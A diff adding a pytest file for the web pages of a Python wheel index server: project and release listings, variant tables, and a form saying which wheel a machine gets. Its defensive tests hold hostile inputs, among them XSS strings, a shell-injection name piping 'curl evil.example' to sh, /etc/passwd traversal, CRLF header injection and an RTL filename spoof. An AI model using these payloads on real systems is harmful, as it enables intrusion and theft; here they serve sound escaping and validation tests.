@@ -1,0 +1,614 @@
+"""The pages for people: what they tell, and that nobody can make them tell something else."""
+
+from __future__ import annotations
+
+import io
+import json
+from pathlib import Path
+
+import pytest
+from server.site.documents import Document
+from server.site.indexes import DOCUMENT, MemoryIndex, fast_fft, many_variants
+
+from wheelfit.cli.hosts import host_text
+from wheelfit.errors import StorageUnavailable, Unreachable
+from wheelfit.platforms.presets import compose
+from wheelfit.resolve.preset_hosts import host_of_preset
+from wheelfit.server.folder import FolderIndex
+from wheelfit.server.index import Elsewhere, url_of
+from wheelfit.server.messages import Answer, Request
+from wheelfit.server.site.facts import is_web_address
+from wheelfit.server.site.rendering import visible
+from wheelfit.server.site.site import Site
+from wheelfit.sources.page import File
+from wheelfit.testing.wheels import build_wheel, release_document
+
+pytest.importorskip("jinja2", reason="needs the extra `server`")
+
+
+@pytest.fixture(scope="module")
+def index(tmp_path_factory: pytest.TempPathFactory) -> MemoryIndex:
+    """Give an index with a project that has variants."""
+    return fast_fft(tmp_path_factory.mktemp("wheels"))
+
+
+@pytest.fixture(scope="module")
+def site(index: MemoryIndex) -> Site:
+    """Give its pages."""
+    return Site(index, public_url="https://wheels.example.org/")
+
+
+def ask(site: Site, target: str, method: str = "GET", **more: object) -> Answer:
+    """Return the answer to a request."""
+    path, _, query = target.partition("?")
+    return site(Request(method, path, query=query, **more))  # type: ignore[arg-type]
+
+
+def body(answer: Answer) -> bytes:
+    """Return the bytes of an answer."""
+    return b"".join(answer.body)
+
+
+def read(site: Site, target: str, status: int = 200) -> Document:
+    """Return a page, which is sound whatever it says."""
+    answer = ask(site, target)
+    assert answer.status == status
+    document = Document(body(answer))
+    assert document.faults == []
+    return document
+
+
+class TestPages:
+    """What each page tells."""
+
+    def test_projects(self, site: Site) -> None:
+        """The front page lists every project with its newest release and variants."""
+        page = read(site, "/")
+        assert "fast-fft 2.1 3 releases 4 variants 2026-10-02" in page.text
+        assert "plainly 1.0 1 release" in page.text
+        assert "./project/fast-fft/" in page.links
+
+    def test_search(self, site: Site) -> None:
+        """A search finds parts of names, however they are spelled, and says so if there is none."""
+        assert "1 project for “FAST_f”" in read(site, "/?q=FAST_f").text
+        assert "plainly" not in read(site, "/?q=fft").text
+        nothing = read(site, "/?q=%3Cb%3E")
+        assert "No project has that" in nothing.text
+        assert "b" not in nothing.tags
+
+    def test_the_very_project_comes_first(self) -> None:
+        """Of what a search finds the exact name is first, then what begins so."""
+        index = MemoryIndex()
+        for name in ("a-torch", "torchvision", "torch"):
+            index.add(name)
+        links = read(Site(index), "/?q=torch").links
+        found = [link.split("/")[2] for link in links if "project/" in link]
+        assert found == ["torch", "torchvision", "a-torch"]
+
+    def test_project(self, site: Site) -> None:
+        """A project has its releases, newest first, with what was taken back."""
+        page = read(site, "/project/fast-fft/")
+        assert page.text.index("3.0rc1") < page.text.index("2.1 newest") < page.text.index("2.0 ")
+        assert "3.0rc1 pre-release" in page.text
+        assert "2.0 yanked" in page.text
+        assert "Fast Fourier transforms on processors and GPUs" in page.text
+        assert "https://example.org/docs" in page.links
+
+    def test_release(self, site: Site) -> None:
+        """A release has a table of its variants with what each asks of a machine."""
+        page = read(site, "/project/fast-fft/2.1/")
+        assert "needs CUDA driver >= 12.8 and a GPU of compute capability 8.0 or 9.0" in page.text
+        assert "nvidia :: sm_arch :: 80_real, 90_real" in page.text
+        assert "cp312, cp313 on Linux x86_64" in page.text
+        assert ">=3.11" in page.text
+        assert (
+            "../../../files/fast_fft-2.1-cp312-cp312-manylinux_2_28_x86_64-cu128.whl" in page.links
+        )
+
+    def test_hashes_and_attestations(self, index: MemoryIndex, site: Site) -> None:
+        """Each file has its hash; what is attested links to the provenance."""
+        page = read(site, "/project/fast-fft/2.1/")
+        for file in index.pages["fast-fft"]:
+            if "-2.1-" in file.filename and file.filename.endswith(".whl"):
+                assert f"sha256:{file.hashes['sha256']}" in page.text
+        assert "2 of 10 wheels are attested" in page.text
+        proof = "fast_fft-2.1-cp312-cp312-manylinux_2_28_x86_64.whl.provenance"
+        assert f"../../../files/{proof}" in page.links
+
+    def test_which_machines(self, site: Site) -> None:
+        """For each kind of machine it says which label is taken, with a link to the reasons."""
+        page = read(site, "/project/fast-fft/2.1/")
+        assert "NVIDIA GPUs, CUDA 12.8" in page.text
+        assert "which/?preset=cuda-12.8-sm90" in page.links
+        row = page.text.index("cuda-12.8-sm90 NVIDIA driver for CUDA 12.8")
+        assert "cu128" in page.text[row : row + 200]
+        windows = page.text.index("windows-x86_64 ")
+        assert "nothing" in page.text[windows : windows + 60]
+
+    def test_yanked_release(self, site: Site) -> None:
+        """A release that was taken back says so, and why."""
+        page = read(site, "/project/fast-fft/2.0/")
+        assert "This release is yanked." in page.text
+        assert "wrong on odd sizes" in page.text
+        assert "This is not the newest release: that is 2.1" in page.text
+
+    def test_plain_release(self, site: Site) -> None:
+        """A release without variants says that, and still says who gets it."""
+        page = read(site, "/project/plainly/1.0/")
+        assert "This release has no variants" in page.text
+        assert "no hash is promised" not in page.text
+
+    def test_spellings_lead_to_one_address(self, site: Site) -> None:
+        """Another spelling of a project or version leads to the page by a relative link."""
+        assert ask(site, "/project/Fast_FFT/").headers["location"] == "../fast-fft/"
+        assert ask(site, "/project/fast-fft").headers["location"] == "fast-fft/"
+        assert ask(site, "/project/fast-fft/2.1.0/").headers["location"] == "../2.1/"
+        assert ask(site, "/project/Fast_FFT/2.1/").headers["location"] == "../../fast-fft/2.1/"
+
+    @pytest.mark.parametrize(
+        "path",
+        ["/nothing", "/project/nothing/", "/project/fast-fft/9/", "/project/fast-fft/x/", "//"],
+    )
+    def test_missing(self, site: Site, path: str) -> None:
+        """What is not there is a page that says so."""
+        assert "There is no such page" in read(site, path, 404).text
+
+    def test_folder(self, tmp_path: Path) -> None:
+        """An index that cannot say when its pages change has pages too."""
+        build_wheel(tmp_path, "some", "1.0", label="v3", document=DOCUMENT)
+        site = Site(FolderIndex(tmp_path))
+        assert "needs x86-64-v3" in read(site, "/project/some/1.0/").text
+        build_wheel(tmp_path, "some", "1.1")
+        assert "1.1 newest" in read(site, "/project/some/").text
+
+
+class TestCommands:
+    """Commands to copy."""
+
+    def test_with_the_public_url(self, site: Site) -> None:
+        """Where the address is known, commands can be used as they are."""
+        page = read(site, "/project/fast-fft/2.1/")
+        url = "https://wheels.example.org/simple/"
+        assert f"wheelfit install --index-url {url} fast-fft==2.1" in page.text
+        assert f"wheelfit run --index-url {url} -- pip install fast-fft==2.1" in page.text
+        assert f"wheelfit run --index-url {url} -- uv pip install fast-fft==2.1" in page.text
+
+    def test_without_it(self, index: MemoryIndex) -> None:
+        """No header of a client is believed: the page says what to put in."""
+        site = Site(index)
+        headers = {"host": "evil.example", "x-forwarded-host": "evil.example"}
+        answer = ask(site, "/project/fast-fft/2.1/", headers=headers, origin="http://evil.example")
+        page = Document(body(answer))
+        assert "evil.example" not in page.text
+        assert "--index-url INDEX_URL fast-fft==2.1" in page.text
+        assert "../../../simple/" in page.links
+
+    def test_nothing_ends_a_word(self) -> None:
+        """A name that is none is quoted, so that a copied command does nothing else."""
+        index = MemoryIndex()
+        name = "x; curl evil.example | sh #"
+        index.add(name, File("x-1.0-py3-none-any.whl", url_of("x")))
+        assert "--index-url INDEX_URL 'x; curl evil.example | sh #'" in json.dumps(
+            Site(index)._commands(name, None)  # type: ignore[arg-type]
+        )
+
+
+def form(content: bytes, filename: str = "machine.toml", python: str = "") -> Request:
+    """Return the request of the form with a host file."""
+    parts = (
+        b'--b\r\nContent-Disposition: form-data; name="content"; filename="%s"\r\n\r\n%s\r\n'
+        b'--b\r\nContent-Disposition: form-data; name="python"\r\n\r\n%s\r\n--b--\r\n'
+    ) % (filename.encode(), content, python.encode())
+    return Request(
+        "POST",
+        "/project/fast-fft/2.1/which/",
+        {"content-type": "multipart/form-data; boundary=b"},
+        body=io.BytesIO(parts),
+    )
+
+
+WHICH = "/project/fast-fft/2.1/which/"
+
+
+class TestWhich:
+    """The form that asks which one somebody would get."""
+
+    @pytest.mark.parametrize(
+        ("preset", "label", "reason"),
+        [
+            ("cuda-12.8-sm90", "cu128", "compatible; cu128 is preferred"),
+            ("cuda-12.6-sm90", "cu126", "needs CUDA driver >= 12.8"),
+            ("cpu-x86_64-v3", "v3", "none was found on preset cpu-x86_64-v3"),
+            ("linux-x86_64", "null", "needs x86-64-v3, the CPU of preset linux-x86_64 is v1"),
+        ],
+    )
+    def test_preset(self, site: Site, preset: str, label: str, reason: str) -> None:
+        """F-90: it says what a preset gets, and why nothing else, as `explain` does."""
+        page = read(site, f"{WHICH}?preset={preset}")
+        assert f"{preset} gets {label}" in page.text
+        assert reason in page.text
+
+    def test_nothing_fits(self, site: Site) -> None:
+        """Where nothing fits every wheel has its reason."""
+        page = read(site, f"{WHICH}?preset=windows-x86_64")
+        assert "windows-x86_64 gets nothing" in page.text
+        assert "built for Linux x86_64, this is Windows x86_64" in page.text
+
+    def test_python(self, site: Site) -> None:
+        """The Python that was chosen counts; without one it is the newest with a wheel."""
+        assert "cp312-cp312" in read(site, f"{WHICH}?preset=linux-x86_64&python=3.12").text
+        page = read(site, f"{WHICH}?preset=linux-x86_64")
+        assert "Python 3.13 was taken, since none was named" in page.text
+        page = read(site, f"{WHICH}?preset=linux-x86_64&python=3.10")
+        assert "gets nothing" in page.text
+
+    def test_host_file(self, site: Site) -> None:
+        """An uploaded host file gets the same answer as the machine that it describes."""
+        file, _ = host_of_preset(compose(["cuda-12.8-sm90"]))
+        answer = site(form(host_text(file).encode(), python="3.12"))
+        page = Document(body(answer))
+        assert (answer.status, page.faults) == (200, [])
+        assert "machine.toml gets cu128" in page.text
+        assert "fast_fft-2.1-cp312-cp312-manylinux_2_28_x86_64-cu128.whl" in page.text
+
+    @pytest.mark.parametrize(
+        ("content", "says"),
+        [
+            (b"", "no host file came with the form"),
+            (b"<script>alert(1)</script>", "the host file is not TOML"),
+            (b"\x00\xff", "the host file is not TOML"),
+            (b"[metadata]\nversion = '0.1'\n[[provider]]\nnamespace = '<b>'\n", "<b>"),
+            (b"x" * (256 << 10) + b"x", "it has more than 262144 bytes"),
+        ],
+    )
+    def test_bad_host_files(self, site: Site, content: bytes, says: str) -> None:
+        """What is no host file is told so, and nothing of it becomes markup."""
+        answer = site(form(content))
+        page = Document(body(answer))
+        assert (answer.status, page.faults) == (400, [])
+        assert says in page.text
+        assert "b" not in page.tags
+
+    def test_hostile_file_name(self, site: Site) -> None:
+        """The name of an uploaded file is shown as text, without its folders."""
+        answer = site(form(b"x", filename="../../<img src=x onerror=alert(1)>"))
+        page = Document(body(answer))
+        assert page.faults == []
+        assert "img" not in page.tags
+        assert "../../<img" not in page.text
+
+    def test_what_is_no_form(self, site: Site) -> None:
+        """A body of another kind, or one that is cut off, is refused; nothing is read for ever."""
+        request = Request("POST", WHICH, {"content-type": "text/plain"}, body=io.BytesIO(b"x"))
+        assert site(request).status == 400
+        endless = Endless()
+        headers = {"content-type": "multipart/form-data; boundary=b"}
+        assert site(Request("POST", WHICH, headers, body=endless)).status == 400
+        assert endless.given < 4 << 20
+
+    @pytest.mark.parametrize(
+        ("query", "says"),
+        [
+            ("preset=", "no preset was typed"),
+            ("preset=cuda-99", "'cuda-99' is no preset"),
+            ("preset=%3Cscript%3E", "'<script>' is no preset"),
+            ("preset=cuda-12.8-sm90&python=2.7", "'2.7' is no Python"),
+            ("preset=" + "x" * 300, "a preset has at most 200 characters"),
+            ("preset=cuda-12.8-sm90%2Bmacos-arm64", "there is no cuda-12.8-sm90 on macos-arm64"),
+            ("preset=/etc/passwd", "is no preset"),
+        ],
+    )
+    def test_bad_presets(self, site: Site, query: str, says: str) -> None:
+        """What is no preset is told so; no file of the server is ever looked at."""
+        page = read(site, f"{WHICH}?{query}", 400)
+        assert says in page.text
+        assert page.text.count("<script>") == page.text.count("'<script>'")
+
+    def test_long_queries(self, site: Site) -> None:
+        """A query that is too long, or has too many fields, is refused."""
+        assert "too long" in read(site, f"{WHICH}?preset={'x' * 5000}", 400).text
+        fields = "&".join("q=1" for _ in range(30))
+        assert "too many fields" in read(site, f"/?{fields}", 400).text
+
+    def test_the_form_alone(self, site: Site) -> None:
+        """Without a question the page has the form, and keeps what was typed afterwards."""
+        assert "Ask about a machine" in read(site, WHICH).text
+        content = body(ask(site, f"{WHICH}?preset=cuda-12.8-sm90&python=3.12"))
+        assert b'value="cuda-12.8-sm90"' in content
+        assert b"<option selected>3.12</option>" in content
+
+
+class Endless:
+    """Give bytes as long as somebody reads."""
+
+    def __init__(self) -> None:
+        self.given = 0
+
+    def read(self, size: int = 1 << 16, /) -> bytes:
+        """Return as many as are wanted."""
+        if not self.given:
+            start = b'--b\r\nContent-Disposition: form-data; name="content"; filename="x"\r\n\r\n'
+            self.given += len(start)
+            return start
+        self.given += size
+        return b"x" * size
+
+
+HOSTILE = [
+    "<script>alert(1)</script>",
+    '"><img src=x onerror=alert(1)>',
+    "'-alert(1)-'",
+    "gnp\u202egpj.exe",
+    "a\r\nSet-Cookie: x=1",
+    "x" * 20_000,
+    "javascript:alert(1)",
+    "../../etc/passwd",
+    "{{ 7 * 7 }}",
+    "lone \udcff surrogate",
+    "\u0000\u0008zero",
+]
+
+
+class TestHostile:
+    """Publishers who mean harm."""
+
+    @pytest.mark.parametrize("name", HOSTILE, ids=range(len(HOSTILE)))
+    def test_names(self, name: str) -> None:
+        """A name of a project is text wherever it stands, and signs that turn it are seen."""
+        index = MemoryIndex()
+        index.add(name, File("some-1.0-py3-none-any.whl", url_of("some")))
+        page = read(Site(index), "/")
+        assert not {"script", "img"} & set(page.tags)
+        assert "\u202e" not in page.text
+        assert "49" not in page.text
+
+    @pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
+    def test_everything_a_page_lists(self, text: str) -> None:
+        """File names, URLs, versions of Python, reasons and hashes are text."""
+        index = MemoryIndex()
+        index.add(
+            "some",
+            File(
+                "some-1.0-py3-none-any.whl",
+                text,
+                {"sha256": text, text: "x"},
+                requires_python=text,
+                yanked=text,
+                upload_time=text,
+                provenance=text,
+            ),
+            File(text, text),
+            File(f"{text}.whl", text),
+        )
+        site = Site(index)
+        for path in ("/", "/project/some/", "/project/some/1.0/", "/project/some/1.0/which/"):
+            page = read(site, path)
+            assert not {"script", "img"} & set(page.tags)
+            assert "\u202e" not in page.text
+
+    @pytest.mark.parametrize("text", [one for one in HOSTILE if "\udcff" not in one], ids=len)
+    def test_metadata(self, tmp_path: Path, text: str) -> None:
+        """Summary, author, licence, links, needs and description are text."""
+        line = text.replace("\r\n", " ").replace("\x00", "")[:5000]
+        headers = [("Summary", line), ("Author", line), ("License", line), ("Home-page", line)]
+        headers += [("Project-URL", f"{line.replace(',', ' ')}, {line}"), ("Requires-Dist", line)]
+        index = MemoryIndex()
+        path = build_wheel(tmp_path, "some", "1.0", metadata_extra=headers, description=text)
+        index.add_wheel(path)
+        for path_ in ("/project/some/", "/project/some/1.0/"):
+            page = read(Site(index), path_)
+            assert not {"script", "img"} & set(page.tags)
+            assert "\u202e" not in page.text
+
+    def test_links(self, tmp_path: Path) -> None:
+        """Only web addresses become links, and those tell nobody where one comes from."""
+        urls = {
+            "good": "https://example.org/x",
+            "script": "javascript:alert(1)",
+            "data": "data:text/html,x",
+            "login": "https://bank.example@evil.example/",
+            "file": "file:///etc/passwd",
+            "odd": "https://exa mple.org/",
+            "broken": "https://[::1",
+        }
+        headers = [("Project-URL", f"{name}, {url}") for name, url in urls.items()]
+        index = MemoryIndex()
+        index.add_wheel(build_wheel(tmp_path, "some", "1.0", metadata_extra=headers))
+        content = body(ask(Site(index), "/project/some/1.0/"))
+        page = Document(content)
+        assert {url for url in urls.values() if url in page.links} == {urls["good"]}
+        assert b'rel="nofollow noopener noreferrer"' in content
+        assert "script: javascript:alert(1) (no web address)" in page.text
+
+    @pytest.mark.parametrize(
+        "url", ["HTTPS://x.example", "http://x", "https://x.example/?q=<b>", "https://ü.example/"]
+    )
+    def test_web_addresses(self, url: str) -> None:
+        """Usual addresses are links."""
+        assert is_web_address(url)
+
+    def test_metadata_that_nests(self, tmp_path: Path) -> None:
+        """METADATA made of thousands of messages costs its description and nothing else."""
+        index = MemoryIndex()
+        file = index.add_wheel(build_wheel(tmp_path, "some", "1.0"))
+        from wheelfit.server.index import content_of
+
+        nested = content_of(b"Content-Type: message/rfc822\n\n" * 5000)
+        index.contents[f"{file.filename}.metadata"] = nested
+        assert "its METADATA cannot be read" in read(Site(index), "/project/some/1.0/").text
+
+    def test_headers_of_redirects(self, site: Site) -> None:
+        """No line end of a path gets into a header."""
+        answer = ask(site, "/project/A%0d%0aSet-Cookie:x/")
+        assert all(value.isprintable() for value in answer.headers.values())
+
+    def test_signs_that_are_not_seen(self) -> None:
+        """What turns or hides text is written as its number; what people write stays."""
+        assert visible("a\u202eb\u200bc\n") == "a⟨U+202E⟩b⟨U+200B⟩c⟨U+000A⟩"
+        assert (
+            visible("Grüße, 你好, \N{NO-BREAK SPACE}שלום") == "Grüße, 你好, \N{NO-BREAK SPACE}שלום"
+        )
+
+
+OTHER = release_document(
+    {"v4": {"x86_64": {"level": ["v4"]}}}, providers={"x86_64": {"requires": ["some-provider"]}}
+)
+
+
+class TestBroken:
+    """What is wrong with an index, told instead of a failure."""
+
+    @pytest.mark.parametrize(
+        ("document", "says"),
+        [
+            (b"{", "some-1.0-variants.json cannot be used"),
+            (b'{"$schema": "https://x.example/9"}', "some-1.0-variants.json cannot be used"),
+            (json.dumps(OTHER).encode(), "v3: ignored, it is listed and not there"),
+        ],
+    )
+    def test_documents(self, tmp_path: Path, document: bytes, says: str) -> None:
+        """F-136: a document that cannot be used says why, and plain wheels stay."""
+        index = MemoryIndex()
+        index.add_wheel(build_wheel(tmp_path, "some", "1.0"))
+        name = "some-1.0-py3-none-any-v3.whl"
+        index.add("some", File(name, url_of(name)))
+        index.add_document("some", "some-1.0-variants.json", document)
+        page = read(Site(index), "/project/some/1.0/")
+        assert "Something is wrong with this release" in page.text
+        assert says in page.text
+        assert "nobody can take it" in page.text
+        answer = read(Site(index), "/project/some/1.0/which/?preset=linux-x86_64")
+        assert "linux-x86_64 gets the plain wheel" in answer.text
+
+    def test_files_that_are_gone(self, tmp_path: Path) -> None:
+        """A wheel that is listed and not there, or elsewhere, still has its row."""
+        index = MemoryIndex()
+        for label in ("v3", None):
+            index.add_wheel(build_wheel(tmp_path, "some", "1.0", label=label, document=DOCUMENT))
+        index.add_document("some", "some-1.0-variants.json", DOCUMENT)
+        for name in list(index.contents):
+            if name.endswith((".whl", ".metadata")):
+                index.contents[name] = Elsewhere("https://elsewhere.example/x")
+        site = Site(index)
+        page = read(site, "/project/some/1.0/")
+        assert "needs x86-64-v3" in page.text
+        assert "it is on another server" in page.text
+        answer = read(site, "/project/some/1.0/which/?preset=cpu-x86_64-v3")
+        assert "cpu-x86_64-v3 gets v3" in answer.text
+        assert "what the metadata of the chosen wheel says does not count" in answer.text
+
+    def test_wheels_that_are_none(self, tmp_path: Path) -> None:
+        """A file that is no archive costs its own facts."""
+        (tmp_path / "some-1.0-py3-none-any-v3.whl").write_bytes(b"no archive")
+        site = Site(FolderIndex(tmp_path))
+        assert "Something is wrong" in read(site, "/project/some/1.0/").text
+        assert "gets nothing" in read(site, "/project/some/1.0/which/?preset=linux-x86_64").text
+
+    @pytest.mark.parametrize("error", [StorageUnavailable("no database"), Unreachable("no answer")])
+    def test_an_index_that_cannot_be_asked(self, error: Exception) -> None:
+        """Where the index cannot be read the page says so with 503, and the next try works."""
+        index = MemoryIndex()
+        index.add("some")
+        site = Site(index)
+        index.error = error
+        assert str(error) in read(site, "/project/some/", 503).text
+        index.error = None
+        assert "some" in read(site, "/").text
+
+
+class TestMany:
+    """Releases and variants by the thousand."""
+
+    def test_variants(self) -> None:
+        """Ten thousand variants are shown in parts, and a question is answered all the same."""
+        site = Site(many_variants(10_000))
+        page = read(site, "/project/many/1.0/")
+        assert "1 to 100 of 10000 builds" in page.text
+        assert "There are too many wheels to ask every machine." in page.text
+        assert len(body(ask(site, "/project/many/1.0/"))) < 1 << 19
+        last = read(site, "/project/many/1.0/?page=100&files=50")
+        assert "9901 to 10000 of 10000 builds" in last.text
+        assert "?page=99&files=50#variants" in last.links
+        answer = read(site, "/project/many/1.0/which/?preset=cuda-12.8-sm90&page=3")
+        assert "401 to 600 of 10000 wheels" in answer.text
+        assert "?preset=cuda-12.8-sm90&page=4#verdicts" in answer.links
+
+    def test_releases(self) -> None:
+        """So are ten thousand releases."""
+        index = MemoryIndex(stamped=True)
+        names = (f"some-{number}-py3-none-any.whl" for number in range(10_000))
+        index.add("some", *(File(name, url_of(name)) for name in names))
+        page = read(Site(index), "/project/some/?page=2")
+        assert "101 to 200 of 10000 releases" in page.text
+        assert "9800" in page.text
+
+    @pytest.mark.parametrize("number", ["0", "-1", "999999999999", "x", "²", "1e3", ""])
+    def test_odd_pages(self, site: Site, number: str) -> None:
+        """A page that is none is the nearest there is."""
+        assert "fast-fft" in read(site, f"/?page={number}").text
+
+    def test_computed_once(self, index: MemoryIndex) -> None:
+        """As long as the stamp of a project is equal, its page is not read again."""
+        site = Site(index)
+        first = body(ask(site, "/project/fast-fft/2.1/"))
+        pages, index.pages = index.pages, dict.fromkeys(index.pages, ())
+        counts = {name: len(files) for name, files in pages.items()}
+        stamp, index.stamp = index.stamp, counts.get  # type: ignore[method-assign,assignment]
+        try:
+            assert body(ask(site, "/project/fast-fft/2.1/")) == first
+        finally:
+            index.pages, index.stamp = pages, stamp  # type: ignore[method-assign]
+
+
+class TestAnswers:
+    """What surrounds the pages."""
+
+    @pytest.mark.parametrize(
+        "target", ["/", "/site.css", "/nothing", "/project/x", "/project/fast-fft/", f"{WHICH}?a=b"]
+    )
+    def test_headers(self, site: Site, target: str) -> None:
+        """Every answer forbids scripts, frames and guesses."""
+        headers = ask(site, target).headers
+        policy = headers["content-security-policy"]
+        assert policy.startswith("default-src 'none'; style-src 'self'; form-action 'self'")
+        assert "frame-ancestors 'none'" in policy
+        assert headers["x-content-type-options"] == "nosniff"
+        assert headers["referrer-policy"] == "same-origin"
+
+    def test_unchanged_pages(self, site: Site) -> None:
+        """A page that a browser has is not sent again."""
+        etag = ask(site, "/project/fast-fft/").headers["etag"]
+        again = ask(site, "/project/fast-fft/", headers={"if-none-match": etag})
+        assert (again.status, body(again)) == (304, b"")
+
+    def test_methods(self, site: Site) -> None:
+        """Nothing can be changed here."""
+        assert ask(site, "/", "DELETE").status == 405
+        assert ask(site, "/project/fast-fft/", "POST").status == 405
+        assert ask(site, "/", "HEAD").length == ask(site, "/").length
+
+    def test_style(self, site: Site) -> None:
+        """The one file beside the pages loads nothing else."""
+        answer = ask(site, "/site.css")
+        assert answer.headers["content-type"] == "text/css; charset=utf-8"
+        assert b"url(" not in body(answer)
+        assert b"@import" not in body(answer)
+
+    def test_every_link_leads_somewhere(self, site: Site) -> None:
+        """From the front page every link to a page of the site is answered."""
+        from urllib.parse import urljoin, urlsplit
+
+        seen: set[str] = set()
+        open_ = ["http://x/"]
+        while open_:
+            url = open_.pop()
+            if url in seen or len(seen) > 200:
+                continue
+            seen.add(url)
+            parts = urlsplit(url)
+            if parts.netloc != "x" or parts.path.startswith(("/simple/", "/files/", "/site.css")):
+                continue
+            answer = ask(site, f"{parts.path}?{parts.query}")
+            assert answer.status == 200, url
+            open_ += [urljoin(url, link).partition("#")[0] for link in Document(body(answer)).links]
+        assert len(seen) > 40
